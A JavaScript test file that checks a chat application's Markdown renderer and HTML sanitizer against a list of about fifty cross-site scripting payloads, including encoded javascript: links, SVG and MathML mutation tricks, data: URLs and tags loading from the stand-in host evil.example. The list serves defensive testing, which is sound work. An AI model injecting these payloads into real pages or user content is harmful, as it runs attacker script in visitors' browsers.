import assert from "node:assert/strict";
import { test } from "node:test";

import { JSDOM } from "jsdom";

// markdown.js runs in a page: give it one (DOMPurify needs a real DOM to parse into).
const { window } = new JSDOM("<!doctype html><html><body></body></html>");
globalThis.window = window;
globalThis.document = window.document;
const { renderMarkdown, sanitizeHtml } = await import("../src/markdown.js");

// What a chat message may contain once rendered; anything else is a failure.
const ALLOWED = new Set([
  "P", "BR", "STRONG", "EM", "DEL", "S", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI", "A",
  "HR", "H1", "H2", "H3", "H4", "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN",
]);
const ALLOWED_ATTRIBUTES = new Set(["href", "title", "align", "target", "rel", "class"]);

const PAYLOADS = [
  // script
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  // event handlers
  "<img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  '<p onclick="alert(1)">click</p>',
  '<a href="https://example.org" onmouseover="alert(1)">x</a>',
  // javascript: URLs, however spelled
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x]( javascript:alert(1) )",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "[x](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  // svg and math tricks
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // data: URLs
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  // style
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0;z-index:99999">cover the page</p>',
  // frames
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="https://evil.example"></frameset>',
  // forms
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<form><input type="submit" formaction="https://evil.example"></form>',
  // page-level tags
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // inside Markdown constructs
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "> <script>alert(1)</script>",
  "* [x](javascript:alert(1))",
  "**<svg onload=alert(1)>**",
];

/** Every way `fragment` could run code or leave the message: none may be there. */
function assertInert(fragment, payload) {
  const root = window.document.createElement("div");
  root.append(fragment);
  for (const node of root.querySelectorAll("*")) {
    assert.ok(ALLOWED.has(node.tagName), `${payload} left a <${node.tagName.toLowerCase()}>`);
    for (const attribute of node.attributes) {
      assert.ok(ALLOWED_ATTRIBUTES.has(attribute.name), `${payload} left the attribute ${attribute.name}`);
    }
    const href = node.getAttribute("href");
    if (href !== null) assert.match(href, /^(https?:|mailto:)/i, `${payload} left the link ${href}`);
  }
}

test("no payload keeps anything that could run, load or leave the message", () => {
  for (const payload of PAYLOADS) {
    assertInert(renderMarkdown(payload), `renderMarkdown(${JSON.stringify(payload)})`);
    assertInert(sanitizeHtml(payload), `sanitizeHtml(${JSON.stringify(payload)})`);
  }
});

test("HTML typed in a message is shown as the text it is", () => {
  const root = window.document.createElement("div");
  root.append(renderMarkdown("<script>alert(1)</script> and <b>bold</b>"));
  assert.equal(root.querySelector("script, b"), null);
  assert.match(root.textContent, /<script>alert\(1\)<\/script> and <b>bold<\/b>/);
});

test("an image is shown as its link, never loaded", () => {
  const root = window.document.createElement("div");
  root.append(renderMarkdown("![pixel](https://tracker.example/p.gif)"));
  assert.equal(root.querySelector("img"), null);
  assert.equal(root.textContent.trim(), "![pixel](https://tracker.example/p.gif)");
});

test("ordinary Markdown still renders, and links open in a new tab without this page", () => {
  const root = window.document.createElement("div");
  root.append(renderMarkdown("**bold** `code` [docs](https://example.org/a) <mailto:a@example.org>"));
  assert.equal(root.querySelector("strong").textContent, "bold");
  assert.equal(root.querySelector("code").textContent, "code");
  const [link, mail] = root.querySelectorAll("a");
  assert.equal(link.getAttribute("href"), "https://example.org/a");
  assert.equal(link.getAttribute("target"), "_blank");
  assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
  assert.equal(mail.getAttribute("href"), "mailto:a@example.org");
});

test("a link that is not http(s) or mailto keeps its text and loses its target", () => {
  const root = window.document.createElement("div");
  root.append(sanitizeHtml('<a href="javascript:alert(1)">click me</a>'));
  const link = root.querySelector("a");
  assert.equal(link.textContent, "click me");
  assert.equal(link.hasAttribute("href"), false);
});
